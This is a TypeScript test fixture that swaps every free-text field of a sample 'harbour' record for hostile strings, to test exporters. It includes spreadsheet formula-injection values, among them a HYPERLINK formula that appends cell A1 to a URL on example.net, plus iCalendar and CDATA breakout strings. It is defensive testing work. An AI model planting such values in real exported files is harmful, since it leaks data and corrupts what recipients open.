import { join } from 'node:path';
import type { Chronicle } from '../../src/core/model/chronicle.ts';
import { sha256Hex } from '../../src/io/hash.ts';
import { hostileRecord, hostileTexts } from '../provenance/hostile-record.ts';
import { projectFolder } from '../support/project.ts';
import { chronicleOf } from '../support/site.ts';

/** Texts that would be more than text in some format in which the record leaves. */
const everywhere = [
  ...hostileTexts,
  '=HYPERLINK("https://example.net/?"&A1,"open")',
  '+1',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1',
  '\r=1',
  '  =1',
  'a\n=1\r\n+2\n\n-3',
  '＝1',
  "'=1",
  '"quoted", and; split',
  'back\\slash\\, comma, semicolon; colon: "',
  'BEGIN:VEVENT\r\nSUMMARY:taken\r\nEND:VEVENT',
  'END:VCALENDAR\nBEGIN:VCALENDAR',
  ']]> <![CDATA[ taken ]]>',
  '$[name] $[description] <b>bold</b>',
  'ж'.repeat(200),
  '😀'.repeat(60),
  'שלום עולם مرحبا',
  `long ${'x'.repeat(100_000)}`,
];

export const harbour = await chronicleOf({ content: join(projectFolder, 'tests/fixtures/harbour') });

/** The harbour, with a hostile text in place of every free one. */
export const hostileHarbour: Chronicle = hostileRecord(harbour, everywhere);

export const making = { baseUrl: 'https://harbour.example/archive/', digest: sha256Hex } as const;
